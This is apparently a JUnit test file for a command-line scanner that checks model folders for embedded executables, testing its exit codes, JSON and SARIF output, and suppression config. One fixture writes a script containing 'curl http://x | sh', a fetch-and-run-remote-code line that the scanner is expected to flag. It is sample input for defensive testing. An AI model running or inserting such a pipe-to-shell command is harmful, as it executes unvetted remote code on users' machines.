package io.modelvet.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ScanCommandTest {
  @TempDir Path dir;

  /** Runs the CLI in-process and returns exit code and stdout. */
  static Run run(String... args) {
    PrintStream out = System.out;
    PrintStream err = System.err;
    ByteArrayOutputStream o = new ByteArrayOutputStream();
    ByteArrayOutputStream e = new ByteArrayOutputStream();
    try {
      System.setOut(new PrintStream(o, true, StandardCharsets.UTF_8));
      System.setErr(new PrintStream(e, true, StandardCharsets.UTF_8));
      int code = Main.run(args);
      return new Run(code, o.toString(StandardCharsets.UTF_8), e.toString(StandardCharsets.UTF_8));
    } finally {
      System.setOut(out);
      System.setErr(err);
    }
  }

  record Run(int code, String out, String err) {}

  @Test
  void cleanFolderPassesWithExitZero() throws IOException {
    Files.writeString(dir.resolve("README.md"), "# a model card\n");
    Run r = run("scan", dir.toString());
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("PASS");
  }

  @Test
  void unrecognisedContentIsInconclusiveExitThree() throws IOException {
    Files.write(dir.resolve("weights.bin"), new byte[] {0, 1, 2, (byte) 0xfe, 0x10});
    Run r = run("scan", "--format", "json", dir.toString());
    assertThat(r.code()).isEqualTo(3);
    JsonNode n = new ObjectMapper().readTree(r.out());
    assertThat(n.at("/files/0/verdict").asText()).isEqualTo("inconclusive");
    assertThat(n.at("/summary/exitCode").asInt()).isEqualTo(3);
  }

  @Test
  void findingsAtOrAboveThresholdFailWithExitOne() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\ncurl http://x | sh\n");
    assertThat(run("scan", dir.toString()).code()).isEqualTo(1);
    assertThat(run("scan", "--fail-on", "critical", dir.toString()).code()).isZero();
  }

  @Test
  void configNextToTheScannedFolderSuppressesVisibly() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Files.writeString(dir.resolve(".modelvet.yaml"), "suppress:\n  - rule: general.embedded-executable\n    paths: ['*.sh']\n    reason: build helper script\n");
    Run r = run("scan", dir.toString());
    assertThat(r.code()).isZero();
    assertThat(r.out()).contains("SUPPRESSED").contains("build helper script");
  }

  @Test
  void writesSarifToAFile() throws IOException {
    Files.writeString(dir.resolve("run.sh"), "#!/bin/sh\necho hi\n");
    Path out = dir.resolve("out.sarif");
    Run r = run("scan", "--format", "sarif", "--output", out.toString(), dir.resolve("run.sh").toString());
    assertThat(r.code()).isEqualTo(1);
    JsonNode n = new ObjectMapper().readTree(out.toFile());
    assertThat(n.get("version").asText()).isEqualTo("2.1.0");
    assertThat(n.at("/runs/0/results/0/ruleId").asText()).isEqualTo("general.embedded-executable");
  }

  @Test
  void usageAndIoErrorsExitTwo() {
    assertThat(run("scan").code()).isEqualTo(2);
    assertThat(run("scan", "--format", "yaml", dir.toString()).code()).isEqualTo(2);
    assertThat(run("scan", "--fail-on", "severe", dir.toString()).code()).isEqualTo(2);
    Run missing = run("scan", dir.resolve("nope").toString());
    assertThat(missing.code()).isEqualTo(2);
    assertThat(missing.err()).contains("no such file");
  }
}
